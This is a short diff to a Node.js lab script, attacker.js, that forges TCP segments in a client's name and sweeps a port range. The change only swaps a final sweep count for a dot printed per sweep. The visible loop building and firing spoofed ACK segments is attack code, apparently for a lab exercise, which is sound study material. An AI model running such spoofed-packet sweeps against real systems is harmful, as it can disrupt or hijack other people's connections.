@@ -1,7 +1,7 @@
 /**
  * Segments in a client's name from somebody who knows its address and its ports' range, run inside a namespace of the lab:
  * `node attacker.js CLIENT SERVER FIRST LAST`. Every port from FIRST to LAST gets one of each kind, with other numbers in
- * each sweep, until standard input ends; then it prints how many whole sweeps there were.
+ * each sweep, until standard input ends; it prints a dot a sweep.
  */
 import { randomInt } from 'node:crypto';
 import { once } from 'node:events';
@@ -81,8 +81,7 @@ let isOver = false;
 void once(process.stdin.resume(), 'end').then(() => {
   isOver = true;
 });
-let sweeps = 0;
-for (; !isOver; sweeps++) {
+while (!isOver) {
   const plain = { source, destination, sourcePort: 0, destinationPort: 80, hops: 64, window: 0 };
   const shots = kinds().map(
     (kind) => new Shot(fd, { ...plain, seq: 0, ack: 0, flags: ACK, payload: Buffer.alloc(0), ...kind }),
@@ -91,5 +90,5 @@ for (; !isOver; sweeps++) {
     for (const shot of shots) shot.fire(port);
     if (port % PORTS_AT_A_TIME === 0) await breathe();
   }
+  process.stdout.write('.');
 }
-process.stdout.write(`${sweeps}\n`);
